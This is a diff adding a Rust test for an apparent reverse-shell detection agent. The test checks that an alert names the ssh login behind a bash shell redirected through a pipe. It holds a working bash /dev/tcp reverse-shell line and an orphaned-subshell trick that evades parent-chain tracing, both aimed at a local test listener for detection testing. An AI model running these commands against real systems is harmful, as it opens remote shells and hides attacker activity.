@@ -213,3 +213,91 @@ fn a_shell_run_from_an_ssh_login_names_where_the_login_came_from() {
     assert!(sshd_names.iter().any(|e| e.ends_with("sshd") || e.ends_with("sshd-session")));
     agent.stop();
 }
+
+/// A shell found through a pipe rather than as the process that executed: it connects and
+/// moves the connection onto its stdio without executing anything (bash's `exec 0<&3`), and
+/// what executes next is a process it left behind, orphaned, whose parents no longer lead to
+/// the shell. The look at that exec reaches the shell as the other holder of a pipe the last
+/// scan knew; the alert still names the ssh login the shell came from, as a scan would.
+#[test]
+fn a_shell_reached_through_a_pipe_still_names_its_ssh_login() {
+    use std::io::{BufRead, Write};
+    if !prerequisites(&["sshd", "ssh", "ssh-keygen", "bash", "mkfifo", "sleep"]) {
+        return;
+    }
+    let sshd = crate::sshd::Sshd::start();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let path = |name: &str| sshd.path(name).display().to_string();
+    let made = Command::new("mkfifo").arg(path("wait")).status().unwrap();
+    assert!(made.success(), "mkfifo");
+    let mut client = KillOnDrop::new(
+        Command::new("sh")
+            .args(["-c", &format!("exec {} root@127.0.0.1 'exec bash'", sshd.ssh())])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .stderr(Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    let mut commands = client.child().stdin.take().unwrap();
+    let mut answers = std::io::BufReader::new(client.child().stdout.take().unwrap());
+    // The shell and a pipe from a child of its (fd 5), in place before the agent's first scan.
+    let setup = format!(
+        "echo $SSH_CONNECTION > {}; exec 5< <(exec sleep 600 </dev/null 2>/dev/null); echo $! > {}; echo ready",
+        path("ssh_connection"),
+        path("sleeper.pid")
+    );
+    writeln!(commands, "{setup}").unwrap();
+    let mut ready = String::new();
+    answers.read_line(&mut ready).unwrap();
+    assert_eq!(ready.trim(), "ready");
+    // No scan after the first one while the test runs, not even one brought forward by execs
+    // the agent could not look at: a look, not a scan, sees the shell. (With exec checks off,
+    // scans are all there is.)
+    let checks_off = std::env::var("SOCKWATCH_TEST_EXEC_CHECKS").as_deref() == Ok("off");
+    let config = sshd.path("sockwatch.toml");
+    std::fs::write(&config, "[agent]\nexec_scan_min_gap = \"120s\"\n").unwrap();
+    let interval = if checks_off { "2s" } else { "120s" };
+    let agent = Agent::start(&["--config", config.to_str().unwrap(), "--interval", interval]);
+    // One line, read whole before it runs. The inner subshell outlives the outer one, waits a
+    // second on a FIFO (a builtin: no exec while its parents still lead to the shell), then
+    // executes, holding the connection and the pipe it inherited.
+    let attack = format!(
+        "exec 3<>/dev/tcp/127.0.0.1/{port} 0<&3 1>&3 2>&3; \
+         ( ( read -t 1 <> {}; echo $BASHPID > {}; exec sleep 60 ) & )",
+        path("wait"),
+        path("orphan.pid")
+    );
+    writeln!(commands, "{attack}").unwrap();
+    let (mut peer, _) = listener.accept().unwrap();
+    prove_round_trip(&mut peer);
+    let alert = agent.wait_for("incident_opened", |e| {
+        is_incident_for(e, port) && e["event"]["action"] == "incident_opened"
+    });
+    for pid_file in ["sleeper.pid", "orphan.pid"] {
+        let deadline = std::time::Instant::now() + Duration::from_secs(10);
+        let pid = loop {
+            match std::fs::read_to_string(sshd.path(pid_file)).map(|t| t.trim().parse::<i32>()) {
+                Ok(Ok(pid)) => break pid,
+                _ if std::time::Instant::now() < deadline => {
+                    std::thread::sleep(Duration::from_millis(20))
+                }
+                _ => panic!("{pid_file} was not written"),
+            }
+        };
+        let pid = rustix::process::Pid::from_raw(pid).unwrap();
+        let _ = rustix::process::kill_process(pid, rustix::process::Signal::KILL);
+    }
+    if !checks_off {
+        let opened_by = &alert["sockwatch"]["incident"]["opened_by"];
+        assert_eq!(opened_by, "exec_check", "a scan came first: the look was not tested");
+    }
+    assert_eq!(alert["process"]["name"], "bash", "{alert:#}");
+    let connection = std::fs::read_to_string(sshd.path("ssh_connection")).unwrap();
+    let client_port: u64 = connection.split_whitespace().nth(1).unwrap().parse().unwrap();
+    let origin = &alert["sockwatch"]["process"]["login_origin"];
+    assert_eq!(origin["remote"]["port"], client_port, "{alert:#}");
+    assert_eq!(origin["local"]["port"], u64::from(sshd.port), "{origin:#}");
+    agent.stop();
+}
